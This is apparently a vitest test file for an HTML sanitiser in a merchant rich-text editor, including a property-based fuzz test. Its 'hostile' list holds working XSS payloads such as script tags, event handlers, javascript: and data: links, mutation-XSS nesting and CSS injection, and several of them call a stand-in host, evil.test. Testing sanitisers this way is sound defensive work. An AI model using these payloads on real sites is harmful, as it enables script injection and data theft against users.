// @vitest-environment jsdom
import fc from 'fast-check'
import { describe, expect, it } from 'vitest'
import { isSafeHref, isSafePicture, isSafeStyle, richText } from '#schemas/widgets/parts/rich-text.ts'
import { sanitiseHtml } from './sanitise-html.ts'

const hostile = [
  '<script>alert(1)</script>',
  '<scr<script>ipt>alert(1)</scr</script>ipt>',
  '<img src=x onerror=alert(1)>',
  '<img src="/a.png"onload=alert(1)>',
  '<img/src=`x`onerror=alert(1)>',
  '<img src="data:image/svg+xml,<svg onload=alert(1)>">',
  '<img src="//evil.test/pixel.gif">',
  '<img srcset="//evil.test/a 1x" src="/a.png">',
  '<svg><animate onbegin=alert(1) attributeName=x></svg>',
  '<svg><style><img src=x onerror=alert(1)></style></svg>',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
  '<a href="java&#10;script:alert(1)">x</a>',
  '<a href="data:text/html,<script>alert(1)</script>">x</a>',
  '<a href="//evil.test" ping="//evil.test">x</a>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<base href="//evil.test/"><meta http-equiv="refresh" content="0;url=//evil.test">',
  '<style>@import "//evil.test/x.css";</style><style>p{}',
  '<form action="//evil.test"><input name=password><button formaction="javascript:x()">go</button></form>',
  '<details open ontoggle=alert(1)><summary>x</summary></details>',
  '<template><img src=x onerror=alert(1)></template>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
  '<p style="position:fixed;top:0;width:100%">x</p>',
  '<p data-style="position:fixed" style="color:red">x</p>',
  '<p STYLE = background:url(//evil.test/p.png)>x</p>',
  '<p style="p\\6fsition:fixed;margin-top:-9999px;--x:url(//evil.test)">x</p>',
  '<p id=__proto__ class=mall-dialog name=body is="x-evil" data-x="1" tabindex=1 contenteditable>x</p>',
  '<p title="a>b" style=\'color: red\' onclick>x</p>',
]

const own = new Set(['loading', 'target', 'rel'])

function findings(root: DocumentFragment): string[] {
  return [...root.querySelectorAll<HTMLElement>('*')].flatMap((element) => [
    ...(richText.tags.some((tag) => tag === element.localName) ? [] : [`tag ${element.localName}`]),
    ...[...element.attributes].flatMap(({ name, value }) => badAttribute(name, value)),
    ...[...element.style]
      .filter((property) => !isSafeStyle(property, element.style.getPropertyValue(property)))
      .map((property) => `style ${property}`),
  ])
}

function badAttribute(name: string, value: string): string[] {
  if (own.has(name)) return []
  if (!richText.attributes.some((allowed) => allowed === name)) return [`attribute ${name}`]
  if (name === 'href' && !isSafeHref(value)) return [`href ${value}`]
  return name === 'src' && !isSafePicture(value) ? [`src ${value}`] : []
}

const markup = (root: DocumentFragment) => {
  const box = document.createElement('div')
  box.append(root.cloneNode(true))
  return box.innerHTML
}

function parsed(html: string): DocumentFragment {
  const template = document.createElement('template')
  template.innerHTML = html
  return template.content
}

describe('rich text in the browser (GD18)', () => {
  it.each(hostile)('keeps nothing of %s', (html) => {
    const clean = sanitiseHtml(html)
    expect(findings(clean)).toEqual([])
    expect(markup(clean)).not.toContain('evil.test')
  })

  it('keeps nothing however pieces are joined, and the result is as harmless when it is read again', () => {
    const piece = fc.constantFrom(
      ...hostile,
      '<table>',
      '</p>',
      '<!--',
      '-->',
      '"',
      "'>",
      '<p style="',
      ' style=',
    )
    const property = fc.property(fc.array(piece, { maxLength: 6 }), (parts) => {
      const clean = sanitiseHtml(parts.join(''))
      expect(findings(clean)).toEqual([])
      // HTML does not read back as it was written (a table inside a paragraph), but it must stay as harmless.
      const text = markup(clean)
      expect(findings(parsed(text))).toEqual([])
      expect(sanitiseHtml(text).textContent).toBe(clean.textContent)
    })
    fc.assert(property, { seed: 18, numRuns: process.env.DEEP ? 1_000 : 60 })
  }, 300_000)

  it('keeps what a merchant writes', () => {
    const html =
      '<h3 style="text-align: center; color: rgb(200, 50, 43);">节日礼盒</h3><p>材质<strong>陶瓷</strong></p>' +
      '<table><tbody><tr><td colspan="2">二</td></tr></tbody></table>'
    expect(markup(sanitiseHtml(html))).toBe(html)
  })

  it('a link to elsewhere opens a new tab without an opener, an own one stays', () => {
    expect(markup(sanitiseHtml('<a href="https://example.test/a">x</a>'))).toBe(
      '<a href="https://example.test/a" target="_blank" rel="noopener noreferrer">x</a>',
    )
    expect(markup(sanitiseHtml('<a href="#/goods/list">x</a>'))).toBe('<a href="#/goods/list">x</a>')
  })

  it('a contact stays where it is, and a link without its scheme gets one', () => {
    for (const href of ['tel:400-800-1234', 'mailto:service@example.com'])
      expect(markup(sanitiseHtml(`<a href="${href}">x</a>`))).toBe(`<a href="${href}">x</a>`)
    expect(markup(sanitiseHtml('<a href="www.example.com/a">x</a>'))).toBe(
      '<a href="https://www.example.com/a" target="_blank" rel="noopener noreferrer">x</a>',
    )
  })

  it('pictures load lazily and have an alternative text', () => {
    expect(markup(sanitiseHtml('<img src="/pictures/a.svg">'))).toBe(
      '<img src="/pictures/a.svg" alt="" loading="lazy">',
    )
  })
})
